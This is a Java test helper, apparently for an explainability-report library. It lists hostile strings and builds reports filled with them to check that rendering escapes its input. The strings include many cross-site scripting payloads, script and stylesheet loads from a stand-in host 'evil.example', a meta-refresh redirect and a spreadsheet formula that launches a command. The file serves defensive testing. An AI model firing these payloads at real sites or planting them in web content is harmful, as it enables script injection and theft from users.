package secant.report;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import secant.data.Feature;
import secant.data.FeatureGroups;
import secant.data.Schema;
import secant.data.SegmentedImage;
import secant.data.TextSpans;
import secant.data.Token;
import secant.explanation.Attribution;
import secant.explanation.Explanation;
import secant.explanation.Explanations;
import secant.explanation.Fidelity;
import secant.explanation.OutputExplanation;
import secant.explanation.Provenance;
import secant.explanation.StopReason;

/** Texts that have broken reports before, and reports that have them everywhere. */
final class Hostile {

    private Hostile() {}

    static Stream<String> texts() {
        return Stream.of(
                "",
                " ",
                "</script><script>alert(1)</script>",
                "</style></svg></title><img src=x onerror=alert(1)>",
                "\" onload=\"alert(1)",
                "' onmouseover='alert(1)",
                "javascript:alert(1)",
                "${page.title()} @raw {{7*7}} $unsafe{x}",
                "<!-- --> <![CDATA[ ]]> &amp; &lt;",
                "line\nline\r\nline\ttab",
                "nul\u0000 escape\u001b[31m bell\u0007 delete\u007f csi\u009b31m",
                "separators\u2028and\u2029end",
                "evil\u202Etxt.exe \u2066isolate\u2069 \u200Emark \uFEFFbom \u00ADsoft",
                "lone\uD800high and \uDC00low",
                "nonchar\uFFFE\uFFFF",
                "漢字かな交じり文 🏠 e\u0301",
                "اسم العمود",
                "=cmd|'/c calc'!A1",
                "<script>alert(1)</script>",
                "<ScRiPt>alert(1)</sCrIpT>",
                "<script src=//evil.example/x.js></script>",
                "<script type=module>import('//evil.example/x.js')</script>",
                "</script >alert(1)<script>",
                "<!--<script>",
                "--><script>alert(1)</script>",
                "]]><script>alert(1)</script>",
                "</title><script>alert(1)</script>",
                "</textarea><script>alert(1)</script>",
                "</style><style>*{display:none}</style>",
                "</text><script>alert(1)</script>",
                "</svg><svg onload=alert(1)>",
                "<svg/onload=alert(1)>",
                "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
                "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>",
                "<img src=x onerror=alert(1)>",
                "<img src=//evil.example/beacon.png>",
                "<iframe src=javascript:alert(1)>",
                "<object data=data:text/html,<script>alert(1)</script>>",
                "<embed src=//evil.example/x>",
                "<link rel=stylesheet href=//evil.example/x.css>",
                "<base href=//evil.example/>",
                "<meta http-equiv=refresh content=0;url=//evil.example/>",
                "<form action=//evil.example/><input autofocus onfocus=alert(1)>",
                "<details open ontoggle=alert(1)>",
                "<video><source onerror=alert(1)>",
                "<math><mtext><script>alert(1)</script>",
                "<a href=javascript:alert(1)>click</a>",
                "\" autofocus onfocus=\"alert(1)",
                "' autofocus onfocus='alert(1)",
                "\"><script>alert(1)</script>",
                "'><script>alert(1)</script>",
                "`-alert(1)-`",
                "'-alert(1)-'",
                "\"-alert(1)-\"",
                "\\\";alert(1)//",
                "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "&#60;script&#62;alert(1)&#60;/script&#62;",
                "${alert(1)}",
                "#{alert(1)}",
                "__proto__",
                "constructor",
                "hasOwnProperty",
                "url(//evil.example/x)",
                "expression(alert(1))",
                "@import '//evil.example/x.css'",
                "M0 0h1\"><script>alert(1)</script>",
                "%3Cscript%3Ealert(1)%3C/script%3E",
                "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
                "x".repeat(1_000_000),
                "<".repeat(100_000));
    }

    /** A report in which every text is this one. */
    static Report report(String text) {
        Explanations explanations = explanations(text);
        return Report.builder(text)
                .add(new ReportSection.Paragraph(text, text))
                .add(new ReportSection.Importance(text, explanations.globalImportance(text), text, 10))
                .add(new ReportSection.Beeswarm(text, explanations, text, 10))
                .add(new ReportSection.Waterfall(text, explanations.get(0), text, 10))
                .add(new ReportSection.Failures(text, 2, List.of(new ReportSection.Failures.FailedRow(1, text))))
                .add(new ReportSection.Card(text, List.of(new ReportSection.Card.Entry(text, text)), List.of(text)))
                .add(ReportSection.Card.of(explanations))
                .add(new ReportSection.Text(text, ofText(text), text, 10))
                .add(new ReportSection.Picks(text, List.of(new ReportSection.Picks.PickedRow(3, 0.5, 0.5))))
                .build();
    }

    /** A report of every kind of section there is; too much of a good thing for formats that keep names of any length. */
    static Report page(String text) {
        Explanations rows = explanations(text);
        Explanation row = rows.get(0);
        Explanation interacting = Gallery.withInteractions(explanation(text, 1), 3);
        String category = text + "!";
        Report.Builder page = Report.builder(text);
        report(text).sections().forEach(page::add);
        return page.add(new ReportSection.Force(text, row, text, 10))
                .add(new ReportSection.Bars(text, row.withConditions(List.of(text, text, text, text)), text, 10))
                .add(new ReportSection.Image(text, ofPicture(text), text, 10))
                .add(new ReportSection.InteractionMatrix(text, Explanations.of(List.of(interacting)), text, 10))
                .add(new ReportSection.Violin(text, rows, text, 10))
                .add(new ReportSection.Dependence(text, rows, text, text, Optional.of(category)))
                .add(new ReportSection.Dependence(text, rows, text, category, Optional.of(text)))
                .add(new ReportSection.Heatmap(text, rows, text, 10, ReportSection.RowOrder.SIMILARITY))
                .add(new ReportSection.StackedForce(text, rows, text, 10, ReportSection.RowOrder.GIVEN))
                .add(new ReportSection.Decision(text, rows, text, 10))
                .add(new ReportSection.Cohorts(text, List.of(new ReportSection.Cohorts.Cohort(text, rows)), text, 10))
                .add(new ReportSection.Comparison(text, text, rows, text, rows, text, 10))
                .build();
    }

    private static Explanation ofPicture(String text) {
        Explanation explanation = explanation(text, 0);
        int segments = explanation.players().players();
        int[] labels = IntStream.range(0, 8 * segments).map(i -> i % segments).toArray();
        return explanation.withImage(SegmentedImage.of(8, segments, new int[labels.length], labels));
    }

    static Explanations explanations(String text) {
        return Explanations.of(
                List.of(explanation(text, 0), explanation(text, 1)),
                List.of(0, 1),
                List.of(new Explanations.Failure(2, new IllegalStateException(text))),
                List.of());
    }

    /** An explanation of this text, twice, with three players: the first time, the second time, what is between. */
    static Explanation ofText(String text) {
        String whole = text + "|" + text;
        int end = text.length();
        List<List<Token>> spans = new ArrayList<>();
        if (end > 0) {
            spans.add(List.of(new Token(0, end)));
            spans.add(List.of(new Token(end + 1, whole.length())));
        }
        spans.add(List.of(new Token(end, end + 1)));
        List<String> names = List.of(text, text + " (2)", "|").subList(end > 0 ? 0 : 2, 3);
        FeatureGroups players = FeatureGroups.singles(
                Schema.of(names.stream().map(Feature::numeric).toList()));
        List<Attribution> attributions = new ArrayList<>();
        double[] values = {1.5, -0.5, 0};
        for (int p = 0; p < names.size(); p++) {
            attributions.add(new Attribution(names.get(p), values[p], 0));
        }
        return Explanation.of(
                        text,
                        players,
                        new double[names.size()],
                        List.of(new OutputExplanation(text, 0.5, 1.5, attributions)),
                        new Fidelity.Additive(0, true, 1),
                        new Provenance(text, Map.of(), -1, text, 0, "", 1, 1, StopReason.EXACT, List.of()))
                .withText(TextSpans.of(whole, spans));
    }

    static Explanation explanation(String text, int category) {
        Schema schema = Schema.of(
                Feature.numeric(text),
                Feature.numeric(text + " "), // looks like the one before
                Feature.categorical(text + "!", text, text + "?"),
                Feature.numeric("a" + text),
                Feature.numeric("b" + text));
        FeatureGroups players =
                FeatureGroups.builder(schema).group("g" + text, 3, 4).build();
        List<Attribution> attributions = new ArrayList<>();
        double[] values = {1.5, -0.25, 0, 1e-9};
        for (int p = 0; p < 4; p++) {
            attributions.add(new Attribution(players.name(p), values[p], p == 1 ? 0.125 : 0));
        }
        Map<String, String> options = new LinkedHashMap<>();
        options.put(text, text);
        return Explanation.of(
                text,
                players,
                new double[] {category, Double.NaN, category, 3, 4},
                List.of(new OutputExplanation(text, 0.5, 1.75, attributions)),
                new Fidelity.Additive(0, true, 1),
                new Provenance(text, options, -1, text, 1, text, 1, 1, StopReason.EXACT, List.of(text)));
    }
}
